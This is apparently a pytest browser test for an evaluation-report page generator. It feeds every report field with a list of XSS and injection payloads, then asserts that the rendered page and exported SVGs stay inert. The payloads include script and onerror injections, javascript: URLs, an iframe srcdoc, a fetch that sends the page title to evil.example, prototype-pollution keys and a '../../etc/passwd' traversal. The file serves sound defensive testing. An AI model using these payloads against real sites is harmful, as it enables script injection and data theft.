"""A page full of ids, texts, domains and names that mean harm: they are text, nothing runs, nothing is asked for."""

from __future__ import annotations

import dataclasses
from collections.abc import Callable
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest

from innerloop.report import page as report
from innerloop.report.embed import visible
from innerloop.schema import Outcome, Question, Source, Step, Trajectory
from innerloop.store import Run
from innerloop.testing.evaluations import write_evaluation
from innerloop.testing.runs import curve

pytestmark = pytest.mark.browser

_RUN = "window.owned=1;fetch('https://evil.example/'+document.title)"
PAYLOADS = [
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script><!--<script>",
    f'"><img src="https://evil.example/i.png" onerror="{_RUN}">',
    f"'><svg onload={_RUN}><animate onbegin={_RUN}>",
    f'<a href="javascript:{_RUN}">here</a>',
    "<a href='https://evil.example'>there</a><b>bold</b><br><span style='color:red'>x</span>",
    f"<iframe srcdoc=\"<script>{_RUN}</script>\"></iframe><base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><link rel=stylesheet href=//evil.example/x.css>",
    "</style><style>@import 'https://evil.example/x.css';body{background:url(https://evil.example/b)}</style>",
    f"javascript:{_RUN}",
    "\u2028\u2029*/ }; " + _RUN + " //",
    f"`${{{_RUN}}}` {{{{7*7}}}} {{% for x in y %}} $\\href{{javascript:{_RUN}}}{{x}}$",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "\x00\x1b]0;owned\x07\u202egnp.exe\u200b\U000e0041",
    "&lt;b&gt; &#60;script&#62; &quot;",
    "#main",
    "../../etc/passwd",
]
#: What must be nowhere in the document, whatever made it.
_HARM = """
[...document.querySelectorAll("*")].flatMap((node) => [...node.attributes].filter(({ name, value }) =>
  name.startsWith("on") || name === "srcdoc" || (/^(xlink:)?(href|src|action|data)$/.test(name)
    && !/^(#|data:,|blob:)/.test(value))).map(({ name, value }) => `${node.tagName} ${name}=${value}`))
"""

Open = Callable[..., Any]


def harmless(tab: Any) -> None:
    tab.wait_for_timeout(200)
    assert tab.evaluate("window.owned") is None
    assert tab.evaluate(_HARM) == []
    assert tab.locator("main img, main iframe, main a[href*=':'], #popover *:is(b, img, a, script)").count() == 0
    assert tab.evaluate("Object.keys(Object.prototype).length") == 0
    assert tab.evaluate("document.scripts.length") == tab.evaluate("document.querySelectorAll('script').length")


def text_only(figure: Path) -> str:
    """The text of a saved figure, in which nothing else is than lines, shapes and text."""
    for node in (tree := ElementTree.parse(figure).getroot()).iter():
        assert node.tag.rpartition("}")[2] not in ("a", "script", "image", "foreignObject", "style"), node.tag
        for name, value in node.attrib.items():
            assert not name.rpartition("}")[2].startswith("on")
            assert not name.endswith("href") or value.startswith("#"), value
    return "".join(tree.itertext())


def test_a_page_of_trajectories(make_run: Callable[..., Path], open_page: Open) -> None:
    asked, told, curves = [], [], []
    for i, text in enumerate(PAYLOADS):
        question = Question(id=text, question=text, answer=text, domain=text, level=text)
        outcome = (Outcome.RIGHT, Outcome.WRONG, None)[i % 3]
        own = Trajectory(
            id=f"{text}/s",
            question_id=text,
            text=text,
            source=Source.FILE,
            model=text,
            final=text,
            answer=text,
            outcome=outcome,
            outcome_reason=text,
            reason=text,
        )
        losses = [1.0 + i] * (len(text) + 1)
        more: dict[str, Any] = {
            "candidates": (text, f"{text}!"),
            "candidate_tokens": (1, 1),
            "candidate_losses": ((1.0, 2.0),) * (len(text) + 1),
        }
        asked.append(question)
        told.append(own)
        curves.append(curve(own, list(text), losses, **more))
    hostile = "".join(PAYLOADS)
    settings = {"questions": hostile, hostile: hostile}
    run = make_run(asked, told, curves, configuration=settings, command=["innerloop", *PAYLOADS])
    tab = open_page(report.write(run))
    for i, text in list(enumerate(PAYLOADS))[::2]:
        tab.locator(f"#table-grid [data-i='{i}']").click()
        assert visible(text) in tab.locator("#reader-aside").text_content()
        token = tab.locator("#reader-text [data-k]").first
        if token.count():
            token.hover()
        tab.wait_for_timeout(50)  # its beliefs are drawn, with the candidates as a legend
    for summary in tab.locator("summary").all():
        summary.click()
    harmless(tab)
    for figure in ("curves", "reader", "headline"):
        with tab.expect_download() as waiting:
            tab.locator(f"[data-export='{figure}'] button", has_text="SVG").click()
        text_only(Path(waiting.value.path()))
    harmless(tab)


def test_a_page_of_scores(tmp_path: Path, open_page: Open) -> None:
    skills = dict.fromkeys((*PAYLOADS[:5], "__proto__", "constructor"), 0.5)
    run = write_evaluation(tmp_path / "R", questions=len(PAYLOADS), samples=2, skills=skills)
    with Run.start(run, "again", {}) as held:
        asked = [
            dataclasses.replace(question, question=text, answer=text, domain=text, level=text)
            for question, text in zip(held.questions(), PAYLOADS, strict=True)
        ]
        held.write("questions", Question.to_table(asked))
        domains = {question.id: question.domain for question in asked}
        scores = [
            dataclasses.replace(one, domain=domains[one.question_id], level=domains[one.question_id])
            for one in held.scores()
        ]
        held.replace("scores", type(scores[0]).to_table(scores))
        stored = held.trajectories()
        changed = [
            dataclasses.replace(one, text=text, final=text, answer=text, outcome_reason=text)
            for one, text in zip(stored, PAYLOADS * len(stored), strict=False)
        ]
        held.write("trajectories", Trajectory.to_table(changed))
    tab = open_page(report.write(run))
    for i in range(0, len(PAYLOADS), 5):
        tab.locator(f"#scores-grid [data-i='{i}']").click()
    for label in ("by domain", "by level"):
        tab.locator("#scores-by").select_option(label=label)
        with tab.expect_download() as waiting:
            tab.locator("[data-export='scores'] button", has_text="SVG").click()
        assert "<script>" in text_only(Path(waiting.value.path()))
    harmless(tab)


def test_a_page_of_a_training(tmp_path: Path, open_page: Open) -> None:
    folder = tmp_path / "<img src=x onerror=window.owned=1>"
    with Run.start(
        folder, "train", {"recipe": PAYLOADS[0], "model": PAYLOADS[4]}, command=("innerloop", PAYLOADS[1])
    ) as run:
        numbers = {text: 1.0 for text in PAYLOADS if "\x00" not in text}
        run.write(
            "steps", Step.to_table([Step.of("train", i, i, {"loss": 1.0 / (1 + i), **numbers}) for i in range(20)])
        )
    tab = open_page(report.write(folder))
    choice = tab.locator("#training-any")
    for option in choice.locator("option").all():
        choice.select_option(value=option.get_attribute("value"))
    tab.locator("#training").scroll_into_view_if_needed()
    harmless(tab)
